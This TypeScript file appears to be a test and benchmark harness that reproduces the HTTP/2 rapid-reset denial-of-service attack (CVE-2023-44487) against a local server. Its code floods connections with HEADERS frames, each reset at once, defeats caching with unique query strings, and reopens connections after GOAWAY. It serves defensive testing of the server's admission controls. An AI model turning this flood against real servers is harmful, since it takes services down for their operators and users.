/**
 * The HTTP/2 rapid-reset attack (CVE-2023-44487): streams opened and reset at once, each HEADERS
 * followed by its RST_STREAM (CANCEL) in the same write, as fast as the connection takes them, over
 * a few connections at a time, a new one opened as each is closed (Node's own per-connection limit,
 * nghttp2's 1,000 resets then 33 a second, ends a connection with GOAWAY; the attacker opens
 * another). Used by test/admission/rapid-reset.e2e.test.ts (as a child process, below) and by
 * `npm run bench -- overload`'s `rapid-reset` row.
 *
 * What it reports: connections opened, how many the server read (it sent its SETTINGS), how long
 * a new connection waited for them, streams written, GOAWAY codes received.
 *
 *   node harness/rapid-reset.ts <port> <from address> <connections at once> <cached|uncached>
 *
 * prints `started`, and on the end of its stdin one JSON line of RapidResetStats, then exits.
 */
import net from 'node:net';
import { createInterface } from 'node:readline';
import { ACK, frame, FrameType, openedAndReset, PREFACE, readFrames } from './http2-frames.ts';

export interface RapidResetOptions {
  port: number;
  /** The loopback address the attacker connects from (Linux routes all of 127/8 to loopback). */
  from: string;
  /** Connections open at once; each is replaced by a new one when it closes. */
  lanes: number;
  /** `uncached`: each stream asks for a target never asked before, which the response cache cannot answer. */
  targets: 'cached' | 'uncached';
}

export interface RapidResetStats {
  /** Connections opened. */
  connections: number;
  /** Connections the server read: its SETTINGS arrived. */
  served: number;
  /** Connections closed without a frame from the server (refused). */
  refused: number;
  /** Per served connection, milliseconds from connect to the server's SETTINGS. */
  acceptedAfterMs: number[];
  /** HEADERS + RST_STREAM pairs written. */
  streams: number;
  /** GOAWAY error codes received, with how many of each. */
  goaway: Record<string, number>;
}

/** Stream pairs per write: one write of about 5 KB, what a client's loop writes at a time. */
const PAIRS_PER_WRITE = 100;
const MAX_STREAM_ID = 0x7fffffff;

/** Digits of the query that makes each stream's target one never asked before. */
const TARGET_DIGITS = 10;
/** An RST_STREAM frame's length on the wire: a header and a code. */
const RST_STREAM_LENGTH = 9 + 4;

/**
 * The writes of one connection: one stream opened and reset, encoded once, copied and patched for
 * each (its stream id, and its target's digits when uncached). The attacker then spends next to
 * nothing per stream, as a compiled client would, and little of the cores it shares with the host
 * in a benchmark.
 */
class Writes {
  readonly #pair: Buffer;
  /** Where the target's digits are in a pair (-1: cached, none). */
  readonly #digitsAt: number;
  #next = 0;

  constructor(port: number, targets: RapidResetOptions['targets']) {
    const path = targets === 'cached' ? '/api/counter/view' : `/api/counter/view?reset=${'0'.repeat(TARGET_DIGITS)}`;
    this.#pair = openedAndReset(
      [1],
      [
        [':method', 'GET'],
        [':scheme', 'http'],
        [':path', path],
        [':authority', `127.0.0.1:${port}`],
      ],
    );
    this.#digitsAt = targets === 'cached' ? -1 : this.#pair.indexOf('0'.repeat(TARGET_DIGITS), 0, 'latin1');
  }

  /** PAIRS_PER_WRITE streams from `firstId` (odd, as a client's are), opened and reset. */
  write(firstId: number): Buffer {
    const length = this.#pair.length;
    const out = Buffer.allocUnsafe(length * PAIRS_PER_WRITE);
    for (let i = 0; i < PAIRS_PER_WRITE; i++) {
      const at = i * length;
      const id = firstId + 2 * i;
      this.#pair.copy(out, at);
      out.writeUInt32BE(id, at + 5);
      out.writeUInt32BE(id, at + length - RST_STREAM_LENGTH + 5);
      if (this.#digitsAt >= 0) out.write(String(this.#next++).padStart(TARGET_DIGITS, '0'), at + this.#digitsAt, 'latin1');
    }
    return out;
  }
}

export function rapidReset(options: RapidResetOptions): { stats: RapidResetStats; stop(): void } {
  const stats: RapidResetStats = { connections: 0, served: 0, refused: 0, acceptedAfterMs: [], streams: 0, goaway: {} };
  const sockets = new Set<net.Socket>();
  let stopped = false;
  const writes = new Writes(options.port, options.targets);

  const lane = () => {
    if (stopped) return;
    stats.connections++;
    const opened = performance.now();
    const socket = net.connect({ port: options.port, host: '127.0.0.1', localAddress: options.from });
    sockets.add(socket);
    let served = false;
    let received: Buffer<ArrayBufferLike> = Buffer.alloc(0);
    let streamId = 1;
    socket.on('error', () => undefined);
    socket.on('data', (chunk: Buffer) => {
      received = readFrames(Buffer.concat([received, chunk]), (type, flags, _id, payload) => {
        if (type === FrameType.Settings && !served) {
          served = true;
          stats.served++;
          stats.acceptedAfterMs.push(Math.round(performance.now() - opened));
        }
        if (type === FrameType.Settings && (flags & ACK) === 0) socket.write(frame(FrameType.Settings, ACK, 0));
        if (type === FrameType.GoAway && payload.length >= 8) {
          const code = String(payload.readUInt32BE(4));
          stats.goaway[code] = (stats.goaway[code] ?? 0) + 1;
        }
      });
    });
    socket.once('close', () => {
      sockets.delete(socket);
      if (!served) stats.refused++;
      lane();
    });
    // Writes as fast as the socket drains (a held, unread connection stops it at its buffers),
    // yielding to the event loop between writes so that replies and closes are seen.
    const write = () => {
      if (stopped || socket.destroyed || streamId > MAX_STREAM_ID - 2 * PAIRS_PER_WRITE) return;
      const bytes = writes.write(streamId);
      streamId += 2 * PAIRS_PER_WRITE;
      stats.streams += PAIRS_PER_WRITE;
      if (socket.write(bytes)) setImmediate(write);
      else socket.once('drain', write);
    };
    socket.once('connect', () => {
      socket.write(Buffer.concat([PREFACE, frame(FrameType.Settings, 0, 0)]));
      write();
    });
  };
  for (let i = 0; i < options.lanes; i++) lane();
  return {
    stats,
    stop() {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

// As a child process: the attack runs in an event loop of its own, apart from the measuring one.
if (import.meta.main) {
  const [port, from, lanes, targets] = process.argv.slice(2);
  const attack = rapidReset({ port: Number(port), from: from ?? '127.0.0.2', lanes: Number(lanes ?? 4), targets: targets === 'cached' ? 'cached' : 'uncached' });
  console.log('started');
  createInterface({ input: process.stdin }).once('close', () => {
    attack.stop();
    console.log(JSON.stringify(attack.stats));
    process.exit(0);
  });
}
